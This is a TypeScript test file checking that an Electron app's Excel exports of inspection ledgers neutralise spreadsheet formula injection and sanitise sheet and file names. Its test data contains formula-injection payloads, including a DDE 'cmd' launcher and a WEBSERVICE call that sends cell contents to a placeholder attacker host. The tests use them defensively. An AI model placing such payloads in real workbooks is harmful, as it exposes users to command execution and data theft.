import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { unzipSync } from 'fflate';
import { currentRoundId } from '../../electron/core/ledger/rounds';
import { exportLedgerWorkbook, exportReturnTemplates, exportSummaryWorkbook } from '../../electron/core/excel/write/exports';
import { cellText, fileName, looksLikeFormula, sheetName } from '../../electron/core/excel/write/safe';
import { tmpLedger } from '../helpers/ledger';
import { buildLedger, readWorkbook, xmlParts } from '../helpers/workbook';

const HOSTILE = [
  '=HYPERLINK("http://evil.example","点此")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '   =1+1',
  '\t=cmd|\' /C calc\'!A0',
  '\r=2*3',
  '=WEBSERVICE("http://evil.example/?"&A1)',
];

describe('exported text is data, never a formula', () => {
  let t: ReturnType<typeof tmpLedger>;
  beforeEach(() => {
    t = tmpLedger();
    buildLedger(t.db, { title: '=HYPERLINK("x")巡察', inspectedOrg: '+局党组' }, [
      {
        title: '=1+1 类别',
        problems: HOSTILE.map((h, i) => ({
          text: `${h}`,
          leaders: [`@领导${i}`],
          unit: i % 2 ? '=单位甲' : '-单位乙',
          units: ['+配合单位'],
          deadline: '2025年6月30日前',
          notes: h,
          measures: [{ text: h }, { text: `${h} 第二项` }],
          progress: [['2025-01-10', h]],
        })),
      },
    ]);
  });
  afterEach(() => t.cleanup());

  async function allExports(): Promise<Uint8Array[]> {
    const roundId = currentRoundId(t.db)!;
    const options = { asOf: '2025-03-01' };
    const ledgerRows = await exportLedgerWorkbook(t.db, roundId, { ...options, layout: 'rows' });
    const ledgerCell = await exportLedgerWorkbook(t.db, roundId, { ...options, layout: 'cell' });
    const summary = await exportSummaryWorkbook(t.db, roundId, options);
    const returns = await exportReturnTemplates(t.db, roundId, options);
    // Several units come back as one zip of workbooks.
    const templates = Object.values(unzipSync(new Uint8Array(returns.files[0]!.bytes!)));
    expect(templates.length).toBe(2);
    return [ledgerRows, ledgerCell, summary].map((o) => new Uint8Array(o.files[0]!.bytes!)).concat(templates);
  }

  it('no exported workbook holds a formula element anywhere', async () => {
    for (const bytes of await allExports()) {
      for (const [name, xml] of Object.entries(xmlParts(bytes))) {
        expect(xml, name).not.toMatch(/<f[\s>/]/);
      }
    }
  });

  it('hostile strings come back as the same plain text cells, marked as text so that editing keeps them text', async () => {
    const roundId = currentRoundId(t.db)!;
    const out = await exportLedgerWorkbook(t.db, roundId, { asOf: '2025-03-01', layout: 'cell' });
    const wb = await readWorkbook(out.files[0]!.bytes!);
    const ws = wb.worksheets[0]!;
    const texts = new Map<string, { value: unknown; numFmt: string | undefined }>();
    ws.eachRow((row) => row.eachCell((cell) => texts.set(String(cell.value), { value: cell.value, numFmt: cell.numFmt })));
    for (const h of HOSTILE) {
      const expected = cellText(h);
      const found = texts.get(expected);
      expect(found, JSON.stringify(h)).toBeDefined();
      expect(typeof found!.value).toBe('string');
      expect(found!.numFmt).toBe('@');
    }
    expect(texts.get('@领导0')?.numFmt).toBe('@');
    expect(String(ws.getCell('A5').value)).toBe('（一）=1+1 类别');
  });
});

describe('names and characters Excel refuses', () => {
  it('sheet names lose []:*?/\\, keep to 31 characters and stay unique', () => {
    const used = new Set<string>();
    expect(sheetName('政治部[机关]:*?/\\', used)).toBe('政治部_机关______');
    const long = '市司法局行政复议与应诉科行政执法协调监督科公共法律服务科法治调研科';
    const a = sheetName(long, used);
    const b = sheetName(long, used);
    expect([...a].length).toBeLessThanOrEqual(31);
    expect([...b].length).toBeLessThanOrEqual(31);
    expect(a).not.toBe(b);
    expect(b.endsWith('(2)')).toBe(true);
    expect(sheetName("'History'", used)).toBe('History_');
    expect(sheetName('', used)).toBe('工作表');
  });

  it('file names lose characters Windows forbids and reserved device names', () => {
    expect(fileName('整改进展回执-甲/乙:科?', '.xlsx')).toBe('整改进展回执-甲_乙_科_.xlsx');
    expect(fileName('CON', '.xlsx')).toBe('_CON.xlsx');
    expect(fileName('  ', '.zip')).toBe('导出.zip');
  });

  it('drops characters XML cannot carry and marks text that would start a formula', () => {
    expect(cellText('问题\u0000内容\u0007\r\n第二行')).toBe('问题内容\n第二行');
    expect(cellText('a'.repeat(40000)).length).toBe(32767);
    expect(looksLikeFormula('  =A1')).toBe(true);
    expect(looksLikeFormula('\t+1')).toBe(true);
    expect(looksLikeFormula('整改=完成')).toBe(false);
  });

  it('a workbook with control characters in the ledger still opens', async () => {
    const t = tmpLedger();
    try {
      buildLedger(t.db, { title: '测试' }, [{ title: '类别\u0001', problems: [{ text: '问题\u0008。', unit: '办公室', measures: [{ text: '措施\u001f。' }] }] }]);
      const out = await exportLedgerWorkbook(t.db, currentRoundId(t.db)!, { asOf: '2025-03-01' });
      const wb = await readWorkbook(out.files[0]!.bytes!);
      expect(wb.worksheets[0]!.getCell('C6').value).toBe('问题。');
    } finally {
      t.cleanup();
    }
  });
});
